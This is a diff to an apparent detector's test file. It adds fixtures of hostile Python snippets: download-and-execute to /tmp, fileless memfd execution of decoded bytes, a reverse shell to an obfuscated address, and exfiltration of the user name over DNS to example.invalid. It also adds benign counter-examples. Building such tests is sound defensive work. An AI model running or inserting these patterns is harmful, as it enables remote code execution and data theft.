@@ -576,6 +576,31 @@ _GENERAL_POSITIVES = [
     ("import ctypes, tempfile\nblob = bytes(b ^ 0x5A for b in DATA)\n"
      "p = tempfile.gettempdir() + '/x.dll'\nopen(p, 'wb').write(blob)\nctypes.CDLL(p)\n",
      "obfuscated-exec"),
+    # streamed response copied into a file that is then run
+    ("import requests, shutil, subprocess\nr = requests.get('https://example.invalid/a', "
+     "stream=True)\nwith open('/tmp/a', 'wb') as f:\n    shutil.copyfileobj(r.raw, f)\n"
+     "subprocess.Popen(['/tmp/a'])\n", "download-exec"),
+    # aiohttp download read inside nested async with blocks
+    ("import aiohttp, os\nasync def go():\n    async with aiohttp.ClientSession() as s:\n"
+     "        async with s.get('https://example.invalid/a') as r:\n"
+     "            data = await r.read()\n    with open('/tmp/a', 'wb') as f:\n"
+     "        f.write(data)\n    os.execv('/tmp/a', ['/tmp/a'])\n", "download-exec"),
+    # mkstemp's descriptor written, its path started
+    ("import os, tempfile, urllib.request\n"
+     "d = urllib.request.urlopen('https://example.invalid/a').read()\n"
+     "fd, path = tempfile.mkstemp(suffix='.exe')\nos.write(fd, d)\nos.startfile(path)\n",
+     "download-exec"),
+    # fileless: decoded bytes in a memfd run through /proc/self/fd
+    ("import os, base64\nfd = os.memfd_create('x')\nos.write(fd, base64.b64decode(BLOB))\n"
+     "os.execv(f'/proc/self/fd/{fd}', ['x'])\n", "obfuscated-exec"),
+    # a shell beside a socket connected to a decoded address
+    ("import socket, subprocess, base64\nh = base64.b64decode('MjAzLjAuMTEzLjc=').decode()\n"
+     "s = socket.socket()\ns.connect((h, 443))\n"
+     "p = subprocess.Popen(['cmd.exe'], stdin=subprocess.PIPE, stdout=subprocess.PIPE)\n",
+     "reverse-shell"),
+    # the user name as a DNS label
+    ("import socket, os\nsocket.getaddrinfo(os.getlogin() + '.x.example.invalid', 80)\n",
+     "exfiltration"),
     # code pushed off screen after 200 blanks
     ("from setuptools import setup\nsetup(name='x')" + " " * 200 + ";import os;os.system('id')\n",
      "obfuscated-exec"),
@@ -624,6 +649,12 @@ def test_generalized_chains_name_their_steps() -> None:
     "subprocess.run(['/bin/sh', '-c', 'make test'], stdout=subprocess.PIPE)\n",
     # blanks inside a string literal before code-looking words are layout
     "HELP = 'usage: tool" + " " * 120 + "import the data'\n",
+    # resolving this machine's own name, bare or on the local network
+    "import socket\nip = socket.gethostbyname(socket.gethostname())\n"
+    "mdns = socket.gethostbyname(socket.gethostname() + '.local')\n",
+    # an optional import that falls back to None is still the module where it imports
+    "try:\n    import requests\nexcept ImportError:\n    requests = None\n"
+    "def fetch(url):\n    return requests.get(url).json()\n",
     # str.translate for ordinary text normalization, not run
     "T = str.maketrans('abc', 'xyz')\nprint('abc'.translate(T))\n",
 ])
